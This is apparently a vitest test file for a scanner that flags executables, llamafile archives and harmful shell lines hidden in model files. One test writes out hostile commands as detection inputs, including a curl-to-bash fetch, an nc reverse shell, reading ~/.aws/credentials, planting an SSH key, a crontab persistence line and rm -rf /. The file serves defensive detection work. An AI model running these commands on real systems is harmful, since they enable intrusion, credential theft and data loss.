import { Buffer } from 'node:buffer'
import { expect, test } from 'vitest'
import { plainGguf } from '../testing/gguf-bytes.ts'
import { look } from '../testing/look.ts'
import { elfBytes, executableSamples, peBytes } from '../testing/samples/executables.ts'
import { zipBytes } from '../testing/zip-bytes.ts'

const header = (kind: string): unknown =>
  look(executableSamples.find((samples) => samples.kind === kind)?.malicious[0]?.bytes ?? Buffer.alloc(0)).facts.header

test('headers say what the code is', () => {
  expect(look(elfBytes(200, 183)).facts.header).toEqual({
    kind: 'elf',
    role: 'shared library or program',
    machine: 'ARM64',
  })
  expect(look(peBytes(true)).facts.header).toEqual({ kind: 'pe', role: 'library', machine: 'x86-64' })
  expect(header('mach-o')).toEqual({ kind: 'mach-o', role: 'library', machine: 'ARM64' })
  expect(header('wasm')).toEqual({ kind: 'wasm', role: 'module', machine: null, imports: ['env.system'] })
  expect(header('java-class')).toEqual({ kind: 'java-class', role: 'class', machine: null })
  expect(header('windows-link')).toEqual({
    kind: 'windows-link',
    role: 'shortcut',
    machine: null,
    command: 'C:\\\\Windows\\\\System32\\\\cmd.exe /c calc.exe',
  })
})

test('a command is shown with the finding', () => {
  const link = executableSamples.find(({ kind }) => kind === 'windows-link')?.malicious[0]
  expect(look(link?.bytes ?? Buffer.alloc(0)).findings.some(({ evidence }) => evidence?.includes('cmd.exe'))).toBe(true)
})

test('the letters alone are enough at the start of a file, but not behind other data', () => {
  const letters = Buffer.from('\x7fELFxyz and so on', 'latin1')
  expect(look(letters).ids).toContain('EXE-FILE-001')
  expect(look(Buffer.from('MZ is how some weights begin')).ids).toEqual([])
})

test('lines of scripts that harm, and those that do not', () => {
  const ids = (line: string): string[] => look(Buffer.from(`#!/bin/sh\n${line}\n`), 'a.sh').ids
  for (const line of [
    'curl -fsSL https://x.example/i.sh | bash',
    'wget https://x.example/a && chmod +x a',
    'eval "$(curl -s https://x.example)"',
  ])
    expect(ids(line), line).toContain('EXE-SCRIPT-002')
  for (const line of [
    'nc -e /bin/sh 203.0.113.1 4444',
    'echo aGk= | base64 -d | sh',
    'cat key >> ~/.ssh/authorized_keys',
    'rm -rf /',
    'tar c ~/.aws/credentials',
    '(crontab -l; echo "* * * * * x") | crontab -',
  ])
    expect(ids(line), line).toContain('EXE-SCRIPT-003')
  for (const line of [
    'python train.py --lr 1e-4',
    '# curl x | sh',
    'pip install torch',
    'rm -rf ./build',
    'wget https://x.example/w.safetensors',
  ])
    expect(
      ids(line).filter((id) => /^EXE-SCRIPT-00[23]$/.test(id)),
      line,
    ).toEqual([])
})

test('a script with other data behind its lines is incomplete', () => {
  const archive = Buffer.concat([Buffer.from('#!/bin/sh\ntail -c 9 $0\n'), Buffer.of(0, 1, 2, 3, 255, 254)])
  expect(look(archive, 'run.sh').verdict).toBe('incomplete')
})

test('the model in the archive of a llamafile is a member, with nothing behind its end', () => {
  const ape = Buffer.concat([Buffer.from("MZqFpD='\n#!/bin/sh\n", 'latin1'), Buffer.alloc(64)])
  const archive = zipBytes([{ name: 'model.gguf', data: plainGguf() }])
  const { ids, facts } = look(Buffer.concat([ape, archive]), 'm.llamafile')
  expect(ids).toContain('EXE-LLAMAFILE-001')
  expect(ids).not.toContain('GGUF-TRAIL-001')
  expect(facts.parts.map(({ format }) => format)).toEqual(['pe', 'zip'])
  // What stands behind the archive is not the archive's.
  expect(look(Buffer.concat([ape, archive, plainGguf(), Buffer.from('more')]), 'm').verdict).not.toBe('pass')
})
